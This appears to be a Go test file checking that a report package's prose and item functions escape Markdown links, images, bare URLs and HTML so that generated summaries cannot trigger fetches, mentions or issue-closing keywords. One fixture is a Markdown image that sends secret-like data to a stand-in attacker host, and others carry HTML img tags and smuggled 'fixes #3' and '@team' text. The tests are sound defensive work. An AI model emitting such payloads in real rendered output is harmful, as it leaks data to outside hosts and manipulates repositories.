package report

import (
	"strings"
	"testing"
)

// TestProseNoImagesOrLinks: the summary keeps its words but cannot make
// GitHub fetch an image or render a link.
func TestProseNoImagesOrLinks(t *testing.T) {
	for name, tc := range map[string]struct{ in, want string }{
		"image":     {"see ![x](https://attacker.example/p?d=s3cr&t=1)", "see !\\[x\\](`https://attacker.example/p?d=s3cr&t=1`)"},
		"link":      {"[docs](http://example.com/a)", "\\[docs\\](`http://example.com/a`)"},
		"bare URL":  {"at www.example.com now", "at `www.example.com` now"},
		"reference": {"[x]: https://e.example/i.png", "\\[x\\]: `https://e.example/i.png`"},
		"html":      {"<img src=https://e.example/i.png>", "&lt;img src=`https://e.example/i.png`&gt;"},
		"plain":     {"Fixed the *slug* bug in `slug.go`.", "Fixed the *slug* bug in `slug.go`."},
	} {
		t.Run(name, func(t *testing.T) {
			got := prose(tc.in)
			if got != tc.want {
				t.Errorf("prose(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if strings.Contains(got, "](http") || strings.Contains(got, "<img") {
				t.Errorf("prose(%q) = %q still renders", tc.in, got)
			}
		})
	}
}

// TestItemInert: a "Not verified" line quoting a hostile path cannot open
// HTML, ping anyone or close an issue.
func TestItemInert(t *testing.T) {
	got := item("`a<img src=https://e.example/x>`: fixes #3 for @team\nnext")
	for _, bad := range []string{"<img", "fixes #3", "@team", "\n"} {
		if strings.Contains(got, bad) {
			t.Errorf("item kept %q: %q", bad, got)
		}
	}
}
